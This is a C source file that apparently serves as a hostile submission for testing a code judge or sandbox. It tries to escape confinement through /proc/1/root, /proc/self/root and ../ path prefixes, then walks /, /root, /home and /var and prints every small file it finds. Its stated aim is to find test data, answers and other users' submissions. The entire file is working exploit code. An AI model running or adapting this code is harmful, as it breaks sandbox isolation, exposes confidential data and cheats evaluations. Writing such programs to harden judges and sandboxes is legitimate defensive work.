// Looks for test data, answers, other submissions and whatever else the machine has, by the paths
// that its input names and by walking through all that there is.
#include "hostile.h"

static void show(const char *path) {
  char block[65536];
  int file = open(path, O_RDONLY | O_NONBLOCK);
  ssize_t got = file < 0 ? -1 : read(file, block, sizeof block);
  if (got > 0 && fwrite(block, 1, (size_t)got, stdout) == 0) return;
  close(file);
}

static void walk(const char *path, int depth) {
  DIR *folder = opendir(path);
  if (!folder) return;
  for (struct dirent *entry; (entry = readdir(folder));) {
    char whole[4096];
    struct stat info;
    if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
    snprintf(whole, sizeof whole, "%s/%s", path, entry->d_name);
    puts(whole);
    if (strcmp(whole, "//usr") == 0 || strcmp(whole, "//lib") == 0) continue;
    if (strcmp(whole, "//proc") == 0 || strcmp(whole, "//bin") == 0) continue;
    if (lstat(whole, &info) != 0) continue;
    if (S_ISDIR(info.st_mode) && depth < 4) walk(whole, depth + 1);
    if (S_ISREG(info.st_mode) && info.st_size < 100000) show(whole);
  }
  closedir(folder);
}

int main(void) {
  static const char *const roots[] = {"", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../..",
                                      "/work/../../../..", "/proc/self/task/../root"};
  char path[4096];
  char whole[8192];
  while (scanf("%4095s", path) == 1) {
    for (size_t i = 0; i < sizeof roots / sizeof *roots; i++) {
      snprintf(whole, sizeof whole, "%s%s", roots[i], path);
      show(whole);
    }
  }
  walk("/", 0);
  walk("/root", 0);
  walk("/home", 0);
  walk("/var", 0);
  fflush(stdout);
  return 3;
}
